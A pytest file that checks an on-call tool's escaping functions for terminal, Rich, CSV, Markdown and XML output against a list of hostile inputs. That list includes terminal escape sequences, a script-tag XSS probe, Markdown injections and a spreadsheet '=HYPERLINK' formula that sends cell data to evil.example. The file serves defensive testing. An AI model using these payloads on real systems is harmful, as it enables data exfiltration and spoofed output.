"""``oncall.escape``: each output's escaping, checked with the parser that output is read by."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from oncall import escape

HOSTILE = [
    "x [/] y",
    "[/red] n",
    "[link=http://evil.example]click[/link]",
    ":thumbs_up:",
    "a\nb",
    "a\r## b",
    "a\r\n| x | y |",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b[H bell\x07",
    "\u202eevil\u202c",
    "\x85next\u2028line\u2029para",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "| a | b |",
    "# heading",
    "1. list",
    "- item",
    "> quote",
    "<script>alert(1)</script>",
    "`code` *em* _em_ ~~del~~ \\",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_terminal_text_has_no_control_characters(text: str) -> None:
    shown = escape.terminal(text)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert "\u202e" not in shown and "\u2028" not in shown
    assert "\n" not in escape.terminal(text) and "\r" not in escape.terminal(text)


def test_terminal_shows_what_was_there() -> None:
    assert escape.terminal("a\x1b[31mb\x07") == "a\\x1b[31mb\\x07"
    assert escape.terminal("tab\there") == "tab here"
    assert escape.terminal("two\nlines\r\nthree") == "two lines three"
    assert escape.terminal("kept\nline\r\nbreaks\rcr", multiline=True) == "kept\nline\nbreaks cr"


@pytest.mark.parametrize("text", HOSTILE)
def test_rich_text_prints_as_written(text: str) -> None:
    console = Console(file=io.StringIO(), width=400, color_system=None, highlight=False)
    console.print(escape.rich_text(text), soft_wrap=True)
    printed = console.file.getvalue()  # type: ignore[attr-defined]
    assert printed.rstrip("\n") == escape.terminal(text).rstrip()
    assert "\x1b" not in printed


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'=HYPERLINK("),
        ("@SUM(A1)", "'@SUM"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("ski trip", "ski trip"),
    ],
)
def test_csv_cells_never_start_a_formula(cell: str, shown: str) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(escape.csv_row(["a", cell, 3]))
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[0] == "a" and row[2] == "3"
    assert row[1].startswith(shown)
    assert row[1].lstrip("'") == cell.replace("\r", "\n")


def test_csv_cell_leaves_numbers_alone() -> None:
    assert escape.csv_cell(-3) == -3
    assert escape.csv_cell(None) is None


def _markdown_table_rows(text: str) -> int:
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    return sum(1 for token in tokens if token.type == "tr_open")


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_cell_stays_one_cell_of_one_row(text: str) -> None:
    table = f"| a | b |\n| --- | --- |\n| {escape.md_inline(text)} | x |\n"
    tokens = MarkdownIt("commonmark").enable("table").parse(table)
    assert _markdown_table_rows(table) == 2
    cells = [t for t in tokens if t.type == "td_open"]
    assert len(cells) == 2
    kinds = {t.type for t in tokens}
    assert not kinds & {"heading_open", "html_block", "bullet_list_open", "ordered_list_open"}
    inline = [t for t in tokens if t.type == "inline"]
    children = {c.type for t in inline for c in t.children or []}
    assert not children & {"link_open", "html_inline", "em_open", "strong_open", "code_inline"}


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_list_item_stays_one_item(text: str) -> None:
    doc = f"- first\n- {escape.md_inline(text)}\n- last\n"
    tokens = MarkdownIt("commonmark").parse(doc)
    assert sum(1 for t in tokens if t.type == "list_item_open") == 3
    assert not {t.type for t in tokens} & {"heading_open", "html_block", "blockquote_open"}


def test_markdown_keeps_plain_words_readable() -> None:
    assert escape.md_inline("account_events, ski trip (2 days)") == (
        "account_events, ski trip (2 days)"
    )
    rendered = MarkdownIt("commonmark").renderInline(escape.md_inline("a *b* [c](d) _e_ #f"))
    assert rendered == "a *b* [c](d) _e_ #f"


@pytest.mark.parametrize("bad", ["\x0c", "\x01", "\x0b", "\ufffe", "\uffff", "\x00", "\ud800"])
def test_xml_text_parses(bad: str) -> None:
    element = ET.Element("case", message=escape.xml_text(f"a{bad}b"))
    element.text = escape.xml_text(f"step{bad}\n\tok \U0001f600 \u05d0")
    parsed = ET.fromstring(ET.tostring(element, encoding="unicode"))
    assert parsed.get("message") == "ab"
    assert parsed.text == "step\n\tok \U0001f600 \u05d0"
